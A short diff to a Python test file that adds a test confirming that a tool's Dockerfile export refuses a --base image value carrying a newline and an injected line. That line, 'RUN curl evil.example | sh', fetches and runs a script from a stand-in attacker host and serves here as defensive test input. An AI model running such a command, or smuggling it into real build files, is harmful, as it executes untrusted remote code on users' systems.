@@ -140,3 +140,9 @@ def test_report_lists_nodes_revs_models_sizes_and_packages(proj, capsys):
 def test_export_of_an_unknown_version(proj, capsys):
     assert main(["--root", str(proj.root), "export", "nope", "--format", "report"]) == 1
     assert "no such version lock" in capsys.readouterr().err
+
+
+def test_dockerfile_base_with_a_newline_is_refused(proj, capsys):
+    rc = main(["--root", str(proj.root), "export", proj.vid, "--format", "dockerfile", "--base",
+               "python:3.12\nRUN curl evil.example | sh"])
+    assert rc == 2 and "is not an image reference" in capsys.readouterr().err
